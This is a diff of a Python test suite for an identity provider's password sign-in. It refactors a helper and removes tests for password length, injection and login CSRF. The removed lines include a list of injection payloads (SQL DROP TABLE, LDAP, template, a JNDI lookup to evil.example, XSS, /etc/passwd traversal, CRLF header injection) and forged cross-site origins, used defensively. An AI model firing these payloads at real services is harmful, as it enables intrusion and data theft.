@@ -7,7 +7,6 @@ import threading
 import unicodedata
 from pathlib import Path
 from typing import Any
-from urllib.parse import urlencode
 
 import argon2
 import pytest
@@ -20,28 +19,28 @@ from idp.services.people import CreateUser, create_user, list_users
 from idp.services.people_security import DisableUser, disable_user
 from idp.storage.engine import open_store
 from idp.storage.migrate import upgrade
-from tests.flows.journeys import HOUR, MINUTE, PASSWORD, ask_for_new_details, go_to, past_events, sign_in
+from tests.flows.journeys import (
+    FAILED,
+    HOUR,
+    PASSWORD,
+    ask_for_new_details,
+    go_to,
+    past_events,
+    sign_in,
+    try_password,
+)
 from tests.flows.sameness import faceless
 from tests.support.dump import untouched
 from tests.support.foundations import BEHIND_PROXY
 from tests.support.house import House, running_house
-from tests.support.person import Person, Tab, login_of
 
 WRONG = "not the password at all"
-FAILED = "Enter the correct username and password."
-
-
-async def try_password(house: House, username: str, password: str, person: Person | None = None) -> Tab:
-    """One attempt in a new sign-in; in a new browser unless a person is given."""
-    journey = await go_to(house.portal("inbound"), person or house.person())
-    await journey.give_password(username, password)
-    return journey.tab
 
 
 async def fail(house: House, username: str, times: int, address: str | None = None) -> None:
     for _ in range(times):
-        tab = await try_password(house, username, WRONG, house.person(address=address))
-        assert FAILED in tab.page.errors
+        tried = await try_password(house, username, WRONG, house.person(address=address))
+        assert FAILED in tried.page.errors
 
 
 async def with_every_kind_of_person(house: House) -> dict[str, str]:
@@ -70,9 +69,9 @@ async def test_LG01_every_failure_looks_the_same(tmp_path: Path) -> None:
         answers = {}
         for number, (kind, username) in enumerate((await with_every_kind_of_person(house)).items()):
             person = house.person(address=f"203.0.113.{number}")
-            tab = await try_password(house, username, WRONG, person)
-            assert tab.last is not None
-            answers[kind] = faceless(tab.last, username)
+            tried = await try_password(house, username, WRONG, person)
+            assert tried.tab.last is not None
+            answers[kind] = faceless(tried.tab.last, username)
         assert answers["unknown"][0] == 400
         assert {kind for kind, answer in answers.items() if answer != answers["unknown"]} == set()
 
@@ -191,8 +190,8 @@ async def test_LG06_parallel_attempts_are_counted_one_by_one(world_url: str, tmp
 async def test_LG07_a_forwarded_address_is_believed_from_a_trusted_proxy_only(tmp_path: Path) -> None:
     async def hammer(house: House, forwarded: str) -> None:
         for number in range(10):  # ten failures of one address, whoever they are for
-            tab = await try_password(house, f"nobody{number}", WRONG, house.person(address=forwarded.format(number)))
-            assert FAILED in tab.page.errors
+            tried = await try_password(house, f"nobody{number}", WRONG, house.person(address=forwarded.format(number)))
+            assert FAILED in tried.page.errors
 
     async with running_house(f"sqlite:///{tmp_path}/direct/idp.db", tmp_path / "direct") as house:
         await hammer(house, "203.0.113.{}")
@@ -203,7 +202,7 @@ async def test_LG07_a_forwarded_address_is_believed_from_a_trusted_proxy_only(tm
         blocked = house.person(address="198.51.100.77, 203.0.113.5")
         assert FAILED in (await try_password(house, "dana", PASSWORD, blocked)).page.errors
         elsewhere = house.person(address="203.0.113.5, 203.0.113.6")
-        assert (await try_password(house, "dana", PASSWORD, elsewhere)).has_arrived
+        assert (await try_password(house, "dana", PASSWORD, elsewhere)).tab.has_arrived
 
 
 async def test_LG08_the_owner_gets_in_from_a_known_browser_whatever_strangers_try(tmp_path: Path) -> None:
@@ -230,7 +229,7 @@ async def test_LG08_a_day_later_an_unknown_browser_gets_in_as_well(tmp_path: Pat
         await fail(house, "dana", 5)
         assert FAILED in (await try_password(house, "dana", PASSWORD)).page.errors
         house.clock.advance(3)
-        assert (await try_password(house, "dana", PASSWORD)).has_arrived
+        assert (await try_password(house, "dana", PASSWORD)).tab.has_arrived
 
 
 async def test_LG09_the_right_password_during_the_lock_tells_nothing_and_counts_nothing(either_house: House) -> None:
@@ -245,172 +244,7 @@ async def test_LG09_the_right_password_during_the_lock_tells_nothing_and_counts_
     assert journey.tab.last is not None
     assert faceless(right, "dana") == faceless(journey.tab.last, "dana")
     house.clock.advance(3)  # the lock was not prolonged by either
-    assert (await try_password(house, "dana", PASSWORD)).has_arrived
-
-
-PASSWORDS = [
-    "six small geese swim in the mill pond",
-    "  blanks at both ends count too  ",
-    "пароль из нескольких русских слов",
-    "four 🦜🦜🦜🦜 birds on a wire",
-    "e" * 3 + "ight unrelated words make sixty-four characters, as it does her",
-    "quotes ' \" and <tags> & percent %41 + plus",
-    "tabs\tare\tcharacters as well",
-]
-
-
-@pytest.mark.parametrize("password", [*PASSWORDS, "x7 Qv9-" * 36 + "last"])
-async def test_LG11_a_password_counts_to_its_last_character(house: House, password: str) -> None:
-    assert len(password) <= 256
-    mail = await house.mail_to("iris@demo.example")
-    journey = await go_to(house.portal("inbound"), house.person())
-    await journey.give_password("iris", mail.password)
-    await journey.press(new_password=password)
-    await journey.arrived()
-    assert (await try_password(house, "iris", password)).has_arrived
-    for other in (password[:-1], password + " ", password.swapcase(), " " + password):
-        if other != password:
-            assert FAILED in (await try_password(house, "iris", other)).page.errors
-            house.clock.advance(5 * MINUTE)
-
-
-async def test_LG11_a_password_is_the_same_on_every_keyboard(house: House) -> None:
-    """NFKC: what one system composes and another does not, or writes full-width, is one password."""
-    mail = await house.mail_to("iris@demo.example")
-    journey = await go_to(house.portal("inbound"), house.person())
-    await journey.give_password("iris", mail.password)
-    chosen = "Ｚoë ate ﬁve crêpes in Malmö"
-    await journey.press(new_password=chosen)
-    await journey.arrived()
-    assert (await try_password(house, "iris", unicodedata.normalize("NFD", chosen))).has_arrived
-
-
-@pytest.mark.parametrize("length", [257, 5000])
-async def test_LG11_what_is_too_long_is_refused_before_it_is_hashed(
-    house: House, monkeypatch: pytest.MonkeyPatch, length: int
-) -> None:
-    def never(*_: object) -> bool:
-        raise AssertionError("hashed")
-
-    monkeypatch.setattr(argon2.PasswordHasher, "verify", never)
-    monkeypatch.setattr(argon2.PasswordHasher, "hash", never)
-    for username in ("dana", "nobody"):
-        tab = await try_password(house, username, "x" * length)
-        assert (tab.page.status, FAILED in tab.page.errors) == (400, True)
-
-
-@pytest.mark.parametrize(
-    ("password", "status"),
-    [("a%00b", 400), ("%ED%A0%80", 400), ("%FF%FE", 400), ("%C0%AF", 400), ("x" * 9000, 400), ("x" * 1_000_000, 413)],
-)
-async def test_LG11_what_is_no_text_or_no_password_is_refused(house: House, password: str, status: int) -> None:
-    person = house.person()
-    journey = await go_to(house.portal("inbound"), person)
-    url = f"{house.issuer}/sign-in/{login_of(journey.page)}/password"
-    headers = {"sec-fetch-site": "same-origin", "content-type": "application/x-www-form-urlencoded"}
-    async with untouched(house):
-        answer = await person.http.post(url, content=f"username=dana&password={password}", headers=headers)
-    assert answer.status_code == status
-    assert 'id="error-page"' in answer.text
-    assert "location" not in answer.headers
-
-
-PAYLOADS = [
-    "' OR '1'='1' --",
-    "dana'; DROP TABLE users; --",
-    "*)(uid=*))(|(uid=*",
-    "{{7*7}}${7*7}<%= 7*7 %>",
-    "${jndi:ldap://evil.example/a}",
-    "%s%s%n%d{0}{username}",
-    '"><script>alert(1)</script>',
-    "../../../../etc/passwd",
-    "\u202egnp.exe",
-    "dana\r\nSet-Cookie: idp-session=x",
-    "dana\x1b[31m",
-    "x" * 8000,
-    "​",
-    "ﷺ" * 500,
-]
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-async def test_LG12_payloads_in_the_username_are_just_unknown_names(either_house: House, payload: str) -> None:
-    journey = await go_to(either_house.portal("inbound"), either_house.person())
-    async with untouched(either_house):
-        await journey.give_password(payload, WRONG)
-    assert journey.page.status == 400
-    assert journey.page.errors
-    assert "error-page" not in journey.page.ids
-
-
-class TestLG14LoginCrossSiteRequestForgery:
-    async def outcome(self, house: House, person: Person, token: str | None = None, **headers: str) -> int:
-        """The status of a password form posted with these headers and this form token (None: the page's own is left out)."""
-        journey = await go_to(house.portal("inbound"), person)
-        url = f"{house.issuer}/sign-in/{login_of(journey.page)}/password"
-        pairs = [("username", "dana"), ("password", PASSWORD)]
-        if token is not None:
-            pairs.append(("form_token", journey.page.fields()["form_token"] if token == "own" else token))
-        sent = {"content-type": "application/x-www-form-urlencoded"}
-        sent |= {name.replace("_", "-"): value for name, value in headers.items()}
-        before = person.cookies
-        answer = await person.http.post(url, content=urlencode(pairs), headers=sent)
-        assert (answer.status_code == 303) or person.cookies == before
-        if answer.status_code != 303:
-            assert 'id="error-page"' in answer.text
-            assert "location" not in answer.headers
-        return answer.status_code
-
-    @pytest.mark.parametrize(
-        "headers",
-        [
-            {"sec_fetch_site": "cross-site"},
-            {"sec_fetch_site": "same-site"},
-            {"sec_fetch_site": "cross-site", "origin": "null"},
-            {"origin": "https://evil.example"},
-            {"origin": "http://localhost.evil.example"},
-            {"origin": "null"},
-            {},
-        ],
-    )
-    async def test_LG14_a_form_from_elsewhere_is_refused(self, house: House, headers: dict[str, str]) -> None:
-        person = house.person()
-        async with untouched(house, "+logins"):
-            assert await self.outcome(house, person, **headers) == 403
-        assert "idp-session" not in person.cookies
-
-    @pytest.mark.parametrize("headers", [{"sec_fetch_site": "cross-site"}, {"origin": "https://evil.example"}])
-    async def test_LG14_a_form_token_does_not_outweigh_what_the_browser_says(
-        self, house: House, headers: dict[str, str]
-    ) -> None:
-        assert await self.outcome(house, house.person(), "own", **headers) == 403
-
-    async def test_LG14_the_form_token_of_another_browser_is_none(self, house: House) -> None:
-        attackers = await go_to(house.portal("inbound"), house.person())
-        token = attackers.page.fields()["form_token"]
-        assert await self.outcome(house, house.person(), token) == 403
-        assert await self.outcome(house, house.person(), token, origin="null") == 403
-
-    @pytest.mark.parametrize(
-        ("token", "headers"),
-        [
-            (None, {"sec_fetch_site": "same-origin", "origin": "null"}),  # Chromium under `no-referrer`
-            (None, {"sec_fetch_site": "none"}),
-            ("own", {"origin": "null"}),
-            ("own", {}),
-        ],
-    )
-    async def test_LG14_a_form_of_our_own_is_taken(
-        self, house: House, token: str | None, headers: dict[str, str]
-    ) -> None:
-        assert await self.outcome(house, house.person(), token, **headers) == 303
-
-    async def test_LG14_an_old_browser_signs_in_by_the_form_token(self, house: House) -> None:
-        person = house.person(fetch_metadata=False)
-        journey = await go_to(house.portal("sip-trunk-plus"), person)
-        await journey.give_password("sam")
-        await journey.press(code=(await house.text_to("+447700900118")).code)
-        assert (await journey.arrived()).amr == ["pwd", "sms", "mfa"]
+    assert (await try_password(house, "dana", PASSWORD)).tab.has_arrived
 
 
 async def test_LG17_when_too_many_hash_at_once_the_next_is_told_to_come_back(
@@ -433,7 +267,7 @@ async def test_LG17_when_too_many_hash_at_once_the_next_is_told_to_come_back(
     assert (await journey.person.http.get(f"{house.issuer}/health/live")).status_code == 200
     crowded.set()
     await asyncio.gather(*crowd)
-    assert (await try_password(house, "dana", PASSWORD)).has_arrived
+    assert (await try_password(house, "dana", PASSWORD)).tab.has_arrived
 
 
 def hasher_places() -> int:
@@ -463,5 +297,5 @@ async def test_LG19_people_who_share_a_mailbox_are_two_people(house: House) -> N
     mail = await house.mail_to("dana@demo.example")
     assert mail.username == "dana2"
     assert (await try_password(house, "dana2", mail.password)).page.h1 == "Choose a new password"
-    assert (await try_password(house, "dana", PASSWORD)).has_arrived
+    assert (await try_password(house, "dana", PASSWORD)).tab.has_arrived
     assert FAILED in (await try_password(house, "dana", mail.password)).page.errors
